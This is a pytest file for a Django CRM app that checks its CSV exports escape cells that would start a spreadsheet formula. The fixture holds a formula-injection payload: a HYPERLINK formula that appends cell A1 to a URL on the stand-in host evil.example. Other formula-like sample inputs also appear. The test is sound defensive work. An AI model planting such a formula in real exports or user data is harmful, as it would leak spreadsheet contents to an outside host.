"""Every CSV export is safe to open in a spreadsheet: no cell arrives as a live formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse

from config.csv_export import safe_cell
from tests.enablement.importing import import_crm

pytestmark = pytest.mark.django_db

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Click for the discount")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+31 20 555 0100", "'+31 20 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=cmd", "'\t=cmd"),
        ("\r=cmd", "'\r=cmd"),
        ("  =1+1", "'  =1+1"),
        ("Globex = best", "Globex = best"),
        ("", ""),
        (-0.27, -0.27),
        (None, None),
    ],
)
def test_text_that_would_start_a_formula_is_written_as_text(cell, written):
    assert safe_cell(cell) == written


@pytest.fixture
def stalled_hostile_deal(tmp_path: Path):
    """A deal named like a formula, imported the way users bring deals in, stalled in Discovery."""
    folder = tmp_path / "native"
    folder.mkdir()
    quoted = HOSTILE_NAME.replace('"', '""')
    deals = ["deal_id,name,account,industry,owner_email,amount,currency,created_at"]
    deals += [f"D-{i},Deal {i},Acme,,ana@example.com,,USD,2025-01-01" for i in range(6)]
    deals.append(f'-X1,"{quoted}",@SUM(1+1),,ana@example.com,,USD,2025-01-01')
    history = ["deal_id,stage,entered_at"]
    history += [f"D-{i},discovery,2025-01-01\nD-{i},proposal,2025-01-0{2 + i % 3}" for i in range(6)]
    history.append("-X1,discovery,2025-01-01")
    (folder / "deals.csv").write_text("\n".join(deals) + "\n")
    (folder / "stage_history.csv").write_text("\n".join(history) + "\n")
    import_crm("native", str(folder))
    call_command("compute_analytics", stdout=io.StringIO())


def test_the_stalled_deals_export_neutralises_formula_cells(client, marketer, stalled_hostile_deal):
    client.force_login(marketer)
    response = client.get(reverse("analytics-stalled"), {"format": "csv"})
    text = b"".join(response.streaming_content).decode()
    rows = {row[0]: row for row in csv.reader(io.StringIO(text))}
    hostile = rows["'-X1"]
    assert hostile[1] == "'" + HOSTILE_NAME and hostile[2] == "'@SUM(1+1)"
    assert hostile[4] == "discovery" and float(hostile[5]) > 0  # ordinary cells are untouched


def test_the_asset_report_csv_goes_through_the_same_writer(marketer, stalled_hostile_deal):
    from enablement.analytics.report import assets_csv

    row = {
        "asset": "-evil",
        "stage": "discovery",
        "exposed": {"deals": 1},
        "unexposed": {"deals": 2},
        "lift_ci": None,
        "lift": -0.25,
    }
    lines = list(csv.reader(io.StringIO(assets_csv([row]))))
    assert lines[1][:2] == ["'-evil", "discovery"] and "-0.25" in lines[1]
